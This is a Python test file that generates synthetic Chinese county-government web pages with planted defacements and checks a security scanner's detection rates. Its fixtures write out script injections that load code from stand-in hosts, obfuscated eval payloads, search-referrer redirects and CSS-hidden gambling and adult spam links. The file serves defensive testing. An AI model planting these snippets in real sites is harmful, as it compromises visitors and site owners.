"""Security checks on a generated corpus: hundreds of county-site pages, built from hand-written
sentences and blocks (not from the lexicons), with and without planted problems.

The sentences are what government articles say (names and titles right for the article's date,
history written with 时任/当时, ordinary words that contain a leader's name's characters); the
planted problems are written the way an editor or an intruder gets them wrong. The issue's
targets are checked on the corpus: hidden links recall ≥ 95% and precision ≥ 90%, injected
code recall and precision ≥ 90%, wording errors recall and precision ≥ 80% — and the clean
pages must stay silent altogether.
"""

from __future__ import annotations

import random
from datetime import date
from pathlib import Path

from test_security import DEFAULT_URL, FIXTURES, facts_of, run_checks

TEMPLATE = (FIXTURES / "_template.html").read_text(encoding="utf-8")
SEED = 2015

# (earliest date, latest date, sentence) — right on every date of the range.
CORRECT = [
    (date(2013, 3, 14), date(2026, 12, 31), "学习贯彻习近平总书记重要讲话和重要指示批示精神。"),
    (
        date(2013, 3, 14),
        date(2026, 12, 31),
        "中共中央总书记、国家主席、中央军委主席习近平出席大会并发表重要讲话。",
    ),
    (
        date(2017, 10, 25),
        date(2026, 12, 31),
        "深入学习贯彻习近平新时代中国特色社会主义思想，增强“四个意识”、坚定“四个自信”、做到“两个维护”。",
    ),
    (
        date(2023, 3, 12),
        date(2026, 12, 31),
        "国务院总理李强主持召开国务院常务会议，李强总理强调要稳就业、稳预期。",
    ),
    (
        date(2023, 3, 12),
        date(2026, 12, 31),
        "全国人大常委会委员长赵乐际、全国政协主席王沪宁、国家副主席韩正出席开幕式。",
    ),
    (
        date(2023, 3, 12),
        date(2026, 12, 31),
        "国务院副总理丁薛祥、何立峰、张国清、刘国中分别出席有关活动。",
    ),
    (date(2023, 3, 12), date(2026, 12, 31), "中共中央政治局常委、中央纪委书记李希在会上讲话。"),
    (
        date(2018, 3, 19),
        date(2023, 3, 10),
        "国务院总理李克强主持召开国务院常务会议，李克强总理指出要优化营商环境。",
    ),
    (date(2018, 3, 19), date(2023, 3, 10), "国务院副总理韩正、胡春华、刘鹤、孙春兰出席座谈会。"),
    (
        date(2018, 3, 19),
        date(2023, 3, 10),
        "全国人大常委会委员长栗战书、全国政协主席汪洋、国家副主席王岐山出席。",
    ),
    (
        date(2013, 3, 16),
        date(2018, 3, 13),
        "国务院总理李克强、国务院副总理张高丽调研指导工作，委员长张德江出席会议。",
    ),
    (
        date(2000, 1, 1),
        date(2026, 12, 31),
        "2015年，时任国务院总理李克强来我县考察，给干部群众留下深刻印象。",
    ),
    (date(2000, 1, 1), date(2026, 12, 31), "1994年，当时国务院总理李鹏同志为我县题词。"),
    (
        date(2000, 1, 1),
        date(2026, 12, 31),
        "毛泽东同志、周恩来同志、邓小平同志等老一辈革命家曾关心我县发展。",
    ),
    (
        date(2023, 3, 10),
        date(2026, 12, 31),
        "原国务院副总理、全国政协主席汪洋同志曾在信中勉励我县群众。",
    ),
    (
        date(2023, 3, 10),
        date(2026, 12, 31),
        "出席座谈会的有原中共中央政治局常委、全国人大常委会委员长栗战书等同志。",
    ),
    (
        date(2000, 1, 1),
        date(2026, 12, 31),
        "坚决反对“台独”分裂行径，台湾地区领导人的谋“独”挑衅遭到两岸同胞反对。",
    ),
    (date(2000, 1, 1), date(2026, 12, 31), "朝鲜、韩国、日本客商参加了投资洽谈会，签约项目12个。"),
    (
        date(2000, 1, 1),
        date(2026, 12, 31),
        "坚持和发展中国特色社会主义，弘扬社会主义核心价值观，全面从严治党。",
    ),
]
# Ordinary county news with characters of leaders' names and of banned terms in other words.
FILLER = [
    "县委副书记、县长张国庆同志主持会议并讲话。",
    "会议要求进一步加强管理强化监督，提升干部能力强作风。",
    "县政协主席李强同志带队开展专题调研。",
    "副县长王毅介绍了全县重点项目推进情况。",
    "镇党委书记蔡奇峰、村支书韩正文参加了座谈。",
    "县人大常委会主任李希文出席会议。",
    "我县举办“台湾同胞投资企业”座谈会，台商代表踊跃发言。",
    "县文化馆举办南北朝鲜卑族历史文物展。",
    "今年以来，全县累计发放创业担保贷款3200万元，福利彩票公益金支持养老服务设施建设。",
    "县公安局开展打击跨境赌博专项行动，提醒群众远离网络赌博、警惕网贷陷阱。",
    "会议强调，要压实安全生产责任，确保人民群众生命财产安全。",
    "全县完成植树造林1.2万亩，森林覆盖率达到68.5%。",
    "县长热线共受理群众诉求1532件，办结率99.2%。",
    "国务院办公厅印发通知，部署开展第五次全国经济普查。",
    "县总工会主席习近文慰问困难职工。",
    "省委常委、副省长李克文一行来我县调研。",
]
HOMOPHONE_ERRORS = [  # (text, wrong)
    ("学习贯彻习近萍总书记重要讲话精神。", "习近萍"),
    ("深入学习席近平新时代中国特色社会主义思想。", "席近平"),
    ("习进平总书记强调，要坚持以人民为中心。", "习进平"),
    ("认真学习刁近平同志系列重要讲话。", "刁近平"),
    ("习近乎总书记在考察时指出。", "习近乎"),
    ("国务院总理李墙主持召开国务院常务会议。", "李墙"),
    ("全国政协主席王护宁出席会议。", "王护宁"),
    ("全国人大常委会委员长赵乐济主持闭幕会。", "赵乐济"),
    ("国务院副总理丁雪祥出席开幕式。", "丁雪祥"),
    ("中央纪委书记李稀在会上讲话。", "李稀"),
    ("坚持和发展中国特色社会主意。", "中国特色社会主意"),
    ("坚定不移推进全面从严治挡。", "全面从严治挡"),
    ("实现中华民族伟大复性的中国梦。", "中华民族伟大复性"),
]
TITLE_ERRORS_2025 = [
    ("李克强总理主持召开国务院常务会议。", "李克强总理"),
    ("国务院总理李克强出席会议并讲话。", "国务院总理李克强"),
    ("国务院副总理韩正出席开幕式。", "国务院副总理韩正"),
    ("全国政协主席汪洋出席座谈会。", "全国政协主席汪洋"),
    ("全国人大常委会委员长栗战书出席会议。", "全国人大常委会委员长栗战书"),
    ("国家主席李强会见外宾。", "国家主席李强"),
    ("国务院总理习近平主持会议。", "国务院总理习近平"),
]
TERM_ERRORS = [
    ("台湾总统的言论破坏两岸关系。", "台湾总统"),
    ("北朝鲜代表团来访。", "北朝鲜"),
    ("南朝鲜企业投资我县。", "南朝鲜"),
    ("台湾政府近日宣布。", "台湾政府"),
    ("中华民国总统发表讲话。", "中华民国总统"),
]


def _article(rng: random.Random, day: date, planted: str = "") -> str:
    right = [s for lo, hi, s in CORRECT if lo <= day <= hi]
    sentences = rng.sample(right, k=min(4, len(right))) + rng.sample(FILLER, k=6)
    if planted:
        sentences.insert(rng.randrange(len(sentences) + 1), planted)
    body = "".join(f"<p>{s}</p>" for s in sentences)
    content = f'<div class="article"><h2>青山县召开会议</h2><div class="info">发布时间：{day:%Y-%m-%d}</div>{body}</div>'
    return TEMPLATE.replace("{title}", "青山县召开会议").replace("{content}", content)


def _url(i: int) -> str:
    return DEFAULT_URL.replace("t20251120_1", f"t20251120_{i}")


def test_hundreds_of_correct_articles_stay_silent() -> None:
    rng = random.Random(SEED)
    days = [
        date(2016, 5, 4),
        date(2019, 5, 10),
        date(2021, 8, 2),
        date(2024, 6, 12),
        date(2025, 11, 20),
    ]
    pages = []
    for i in range(300):
        day = days[i % len(days)]
        pages.append(facts_of(_article(rng, day), _url(i), day))
    findings = run_checks(pages, DEFAULT_URL)
    assert findings == [], [(f.check, dict(f.detail)) for f in findings[:5]]


def test_wording_errors_recall_and_precision() -> None:
    rng = random.Random(SEED + 1)
    day = date(2025, 11, 20)
    planted = HOMOPHONE_ERRORS + TITLE_ERRORS_2025 + TERM_ERRORS
    pages, wanted = [], {}
    for i in range(200):
        text, wrong = planted[i % len(planted)] if i % 2 == 0 else ("", "")
        url = _url(i)
        pages.append(facts_of(_article(rng, day, text), url, day))
        if wrong:
            wanted[url] = wrong
    found = {
        (f.url, f.detail["wrong"])
        for f in run_checks(pages, DEFAULT_URL)
        if f.check == "wording_error"
    }
    hits = {(u, w) for u, w in wanted.items() if (u, w) in found}
    recall = len(hits) / len(wanted)
    precision = len(hits) / len(found) if found else 0.0
    assert recall >= 0.95 and precision >= 0.95, (recall, precision, sorted(found - hits)[:5])


HIDING = [  # (technique snippet, opening tag, closing tag)
    ("display:none", '<div style="display:none">', "</div>"),
    ("display:none", '<div id="k{n}">', "</div><style>#k{n}{{display:none}}</style>"),
    ("left:", '<div style="position:absolute;left:-{n}999px;top:0">', "</div>"),
    ("top:", '<span style="position:absolute;top:-3000px">', "</span>"),
    ("text-indent", '<p style="text-indent:-9999em">', "</p>"),
    ("overflow", '<div style="width:1px;height:1px;overflow:hidden">', "</div>"),
    ("font-size", '<font style="font-size:0px">', "</font>"),
    ("color", '<div style="background:#FFF"><font color="#ffffff">', "</font></div>"),
    ("marquee", '<marquee width="2" height="1" scrollamount="9000">', "</marquee>"),
    ("visibility", '<div style="visibility:hidden;position:absolute">', "</div>"),
    ("opacity", '<div style="opacity:0">', "</div>"),
    ("hidden attribute", "<section hidden>", "</section>"),
]
SPAM_LINKS = [
    ("http://www.amjs{n}.com/", "澳门金沙娱乐城"),
    ("http://www.bet{n}.net/", "体育投注"),
    ("https://xpj{n}.vip/", "新葡京真人视讯"),
    ("http://www.yl{n}-casino.com/", "百家乐"),
    ("http://www.qp{n}.cc/", "开元棋牌"),
    ("http://dk{n}.example.net/", "黑户贷款秒下款"),
    ("http://www.shop{n}.com.cn/", "品牌折扣"),
    ("http://av{n}.example.org/", "成人视频"),
]
SCRIPTS = [
    ("untrusted_script_host", '<script src="http://js.tj{n}.top/c.js"></script>'),
    ("hidden_iframe", '<iframe src="http://ad{n}.example.cc/" width="1" height="1"></iframe>'),
    (
        "writes_untrusted_source",
        "<script>document.write(unescape('%3Cscript src=%22//j{n}.example.top/x.js%22%3E%3C/script%3E'))</script>",
    ),
    ("eval_fromcharcode", "<script>eval(String.fromCharCode(118,97,114,32,97,61,{n}))</script>"),
    (
        "packed_eval",
        "<script>eval(function(p,a,c,k,e,d){{return p}}('0 1={n}',2,2,'var|x'.split('|'),0,{{}}))</script>",
    ),
    (
        "search_referrer_redirect",
        "<script>if(document.referrer.indexOf('baidu')>0){{location.href='http://r{n}.example.top/'}}</script>",
    ),
    (
        "loads_untrusted_script",
        "<script>var s=document.createElement('script');s.src='https://cdn{n}.example.top/a.js';document.head.appendChild(s)</script>",
    ),
    (
        "meta_refresh_untrusted",
        '<meta http-equiv="refresh" content="0;url=http://jump{n}.example.top/">',
    ),
]


def test_hidden_links_and_scripts_recall_and_precision() -> None:
    rng = random.Random(SEED + 2)
    day = date(2025, 11, 20)
    pages, want_hidden, want_script = [], set(), set()
    for i in range(240):
        url = _url(i)
        html = _article(rng, day)
        if i % 3 == 0:
            _technique, opening, closing = HIDING[i % len(HIDING)]
            links = rng.sample(SPAM_LINKS, k=rng.randint(1, 3))
            block = "".join(f'<a href="{h.format(n=i)}">{t}</a> ' for h, t in links)
            html = html.replace(
                "</body>", f"{opening.format(n=i)}{block}{closing.format(n=i)}</body>"
            )
            want_hidden.add(url)
        elif i % 3 == 1:
            why, code = SCRIPTS[i % len(SCRIPTS)]
            html = html.replace("</body>", f"{code.format(n=i)}</body>")
            want_script.add((url, why))
        pages.append(facts_of(html, url, day))
    findings = run_checks(pages, DEFAULT_URL)
    got_hidden = {f.url for f in findings if f.check == "hidden_links"}
    got_script = {(f.url, f.detail["why"]) for f in findings if f.check == "malicious_script"}
    assert len(got_hidden & want_hidden) / len(want_hidden) >= 0.95, sorted(
        want_hidden - got_hidden
    )[:5]
    assert len(got_hidden & want_hidden) / len(got_hidden) >= 0.90, sorted(
        got_hidden - want_hidden
    )[:5]
    assert len(got_script & want_script) / len(want_script) >= 0.90, sorted(
        want_script - got_script
    )[:5]
    assert len(got_script & want_script) / len(got_script) >= 0.90, sorted(
        got_script - want_script
    )[:5]
    assert not [f for f in findings if f.check == "wording_error"]


def test_corpus_files_exist() -> None:
    assert Path(FIXTURES / "_template.html").is_file()
